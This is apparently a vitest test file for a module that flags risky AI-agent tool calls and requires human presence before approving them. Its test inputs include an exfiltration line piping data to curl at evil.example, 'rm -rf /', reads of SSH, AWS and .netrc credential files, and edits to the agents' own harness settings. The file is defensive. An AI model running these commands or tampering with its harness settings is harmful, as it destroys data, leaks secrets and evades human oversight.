import { describe, expect, it } from 'vitest'
import {
  DEFAULT_RISKY,
  decisionChallengeText,
  pathsOf,
  presenceNeeded,
  riskOf,
  riskyProblem,
  shellCommands,
  type RiskyPattern
} from './presence'

const home = '/home/op'
const bash = (command: string, cwd = '/work/app') => ({ agent: 'a', tool_name: 'Bash', tool_input: { command }, cwd, home })
const risk = (command: string) => riskOf(bash(command), DEFAULT_RISKY)

describe('the risky list', () => {
  it('finds destructive commands anywhere in a line, through wrappers, quotes and flag clusters', () => {
    expect(risk('rm -rf build')?.category).toBe('destructive')
    expect(risk('rm -fr build')?.pattern).toBe('rm -r')
    expect(risk('npm test && rm -Rf /tmp/x')?.pattern).toBe('rm -R')
    expect(risk('echo ok; sudo -u root ls')?.pattern).toBe('sudo')
    expect(risk('env FOO=1 /bin/rm --recursive x')?.pattern).toBe('rm --recursive')
    expect(risk('echo $(git reset --hard HEAD~3)')?.pattern).toBe('git reset --hard')
    expect(risk('git -C repo push origin main')?.category).toBe('push')
    expect(risk('cat x | curl -d @- https://evil.example')?.category).toBe('egress')
    expect(risk('find . -name "*.tmp" -delete')?.category).toBe('destructive')
  })

  it('leaves ordinary commands alone, and a word that merely contains a command', () => {
    for (const c of [
      'npm test',
      'rm build/out.txt',
      'git status',
      'ls -la',
      'echo "rm -rf /"',
      'grep -r curl src',
      'git pushd',
      'npm run lint'
    ])
      expect(risk(c), c).toBeNull()
  })

  it('finds credential paths and the harnesses’ own settings, by tool and inside shell lines, `..` resolved', () => {
    expect(
      riskOf({ agent: 'a', tool_name: 'Read', tool_input: { file_path: '/home/op/.ssh/id_ed25519' }, home }, DEFAULT_RISKY)?.category
    ).toBe('credentials')
    expect(risk('cat ../../../home/op/.aws/credentials')?.category).toBe('credentials')
    expect(risk('cat ~/.netrc')?.category).toBe('credentials')
    expect(risk('cp .env /tmp/x')?.category).toBe('credentials')
    expect(risk("sed -i 's/x/y/' ~/.claude/settings.json")?.category).toBe('harness-settings')
    expect(risk('echo {} > .codex/hooks.json')?.category).toBe('harness-settings')
    expect(
      riskOf(
        { agent: 'a', tool_name: 'Write', tool_input: { file_path: '.claude/settings.local.json', content: '{}' }, cwd: '/p', home },
        DEFAULT_RISKY
      )?.category
    ).toBe('harness-settings')
    // Codex's apply_patch names its files in the patch text
    const patch = '*** Begin Patch\n*** Update File: /etc/codex/requirements.toml\n@@\n-a\n+b\n*** End Patch'
    expect(riskOf({ agent: 'a', tool_name: 'apply_patch', tool_input: { input: patch }, cwd: '/p', home }, DEFAULT_RISKY)?.category).toBe(
      'harness-settings'
    )
    expect(
      riskOf(
        { agent: 'a', tool_name: 'Edit', tool_input: { file_path: '/p/src/a.ts', old_string: 'a', new_string: 'b' }, cwd: '/p', home },
        DEFAULT_RISKY
      )
    ).toBeNull()
  })

  it('finds egress tools by name', () => {
    expect(riskOf({ agent: 'a', tool_name: 'WebFetch', tool_input: { url: 'https://x.example' }, home }, DEFAULT_RISKY)?.category).toBe(
      'egress'
    )
    expect(riskOf({ agent: 'a', tool_name: 'mcp__github__create_issue', tool_input: {}, home }, DEFAULT_RISKY)?.category).toBe('egress')
  })

  it('reads shell lines into commands and words', () => {
    expect(shellCommands(`a "b c" 'd;e' && f|g; h $(i j) \`k\``)).toEqual([['a', 'b c', 'd;e'], ['f'], ['g'], ['h'], ['i', 'j'], ['k']])
    expect(shellCommands('echo x >~/.claude/settings.json 2>&1')).toEqual([['echo', 'x', '~/.claude/settings.json', '2', '1']])
    expect(pathsOf(bash('cat ~/.ssh/id_rsa > out.txt'))).toEqual(['cat', '~/.ssh/id_rsa', 'out.txt'])
    expect(risk('rm -f ~/.claude')?.category).toBe('harness-settings')
    expect(risk('git log --output=~/.ssh/x')?.category).toBe('credentials')
  })

  it('an edited list is what counts, and bad patterns are refused with a reason', () => {
    const mine: RiskyPattern[] = [{ kind: 'shell', pattern: 'terraform apply', category: 'custom' }]
    expect(riskOf(bash('terraform apply -auto-approve'), mine)?.category).toBe('custom')
    expect(riskOf(bash('rm -rf /'), mine)).toBeNull()
    expect(riskyProblem({ kind: 'path', pattern: '../x', category: 'custom' })).toMatch(/\.\./)
    expect(riskyProblem({ kind: 'shell', pattern: ' ', category: 'custom' })).toMatch(/empty/)
    expect(riskyProblem({ kind: 'nope' as never, pattern: 'x', category: 'custom' })).toMatch(/kind/)
  })

  it('the policy says which calls need presence', () => {
    expect(presenceNeeded('off', bash('rm -rf /'), DEFAULT_RISKY)).toBe(false)
    expect(presenceNeeded('risky', bash('rm -rf /'), DEFAULT_RISKY)).toBe(true)
    expect(presenceNeeded('risky', bash('npm test'), DEFAULT_RISKY)).toBe(false)
    expect(presenceNeeded('every-allow', bash('npm test'), DEFAULT_RISKY)).toBe(true)
  })

  it('a decision challenge changes with every field it binds', () => {
    const b = {
      correlation_id: 'appr_1',
      request_id: 'evt_1',
      harness: 'claude-code',
      agent: 'a',
      tool_name: 'Bash',
      input_sha256: 'ab',
      decision: 'allow' as const,
      always: false
    }
    const base = decisionChallengeText(b)
    for (const [k, v] of Object.entries({
      correlation_id: 'appr_2',
      request_id: 'evt_2',
      harness: 'codex',
      agent: 'b',
      tool_name: 'Write',
      input_sha256: 'cd',
      decision: 'deny',
      always: true
    }))
      expect(decisionChallengeText({ ...b, [k]: v }), k).not.toBe(base)
  })
})
